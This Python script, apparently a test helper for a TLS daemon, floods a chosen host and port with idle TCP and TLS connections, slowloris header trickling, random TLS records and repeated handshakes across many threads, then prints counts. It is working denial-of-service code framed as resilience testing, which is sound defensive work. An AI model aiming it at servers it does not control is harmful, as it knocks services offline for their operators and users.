#!/usr/bin/python3
"""Hostile TLS clients for remote-hostile.sh: run from one source address for `seconds`.

Usage: remote-attack.py SRC_IP HOST PORT SECONDS

Idle TCP connections that never start TLS, TLS connections that never send a request,
slow clients trickling a header byte at a time, garbage TLS records, and a loop of fresh
handshakes. Prints a summary line; the daemon's behaviour is judged by the caller.
"""
import os
import socket
import ssl
import sys
import threading
import time

src, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
deadline = time.time() + seconds
stats = {"refused": 0, "handshakes": 0, "held": 0}
lock = threading.Lock()
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE


def count(key):
    with lock:
        stats[key] += 1


def tcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((src, 0))
    s.settimeout(5)
    s.connect((host, port))
    return s


def hold(s):
    """Keeps s until the server closes it or the attack ends."""
    count("held")
    s.settimeout(0.5)
    while time.time() < deadline:
        try:
            if s.recv(1024) == b"":
                return
        except socket.timeout:
            continue
        except OSError:
            return


def idle_tcp():
    while time.time() < deadline:
        try:
            hold(tcp())
        except OSError:
            count("refused")
            time.sleep(0.2)


def idle_tls():
    while time.time() < deadline:
        try:
            hold(ctx.wrap_socket(tcp()))
        except (OSError, ssl.SSLError):
            count("refused")
            time.sleep(0.2)


def slowloris():
    req = b"GET /1.0 HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 4000
    while time.time() < deadline:
        try:
            s = ctx.wrap_socket(tcp())
            count("held")
            for b in req:
                if time.time() >= deadline:
                    break
                s.send(bytes([b]))
                time.sleep(0.3)
        except (OSError, ssl.SSLError):
            count("refused")
            time.sleep(0.2)


def garbage():
    while time.time() < deadline:
        try:
            s = tcp()
            # A TLS record header announcing a handshake, then noise.
            s.send(b"\x16\x03\x01\x40\x00" + os.urandom(2048))
            s.send(b"\x17\x03\x03\xff\xff" + os.urandom(4096))
            hold(s)
        except OSError:
            count("refused")
            time.sleep(0.1)


def handshakes():
    while time.time() < deadline:
        try:
            s = ctx.wrap_socket(tcp())
            count("handshakes")
            s.close()
        except (OSError, ssl.SSLError):
            count("refused")
            time.sleep(0.05)


threads = []
for fn, n in ((idle_tcp, 30), (idle_tls, 30), (slowloris, 20), (garbage, 10), (handshakes, 4)):
    threads += [threading.Thread(target=fn, daemon=True) for _ in range(n)]
for t in threads:
    t.start()
for t in threads:
    t.join(seconds + 30)
print("attack: %(held)d held, %(handshakes)d handshakes, %(refused)d refused" % stats)
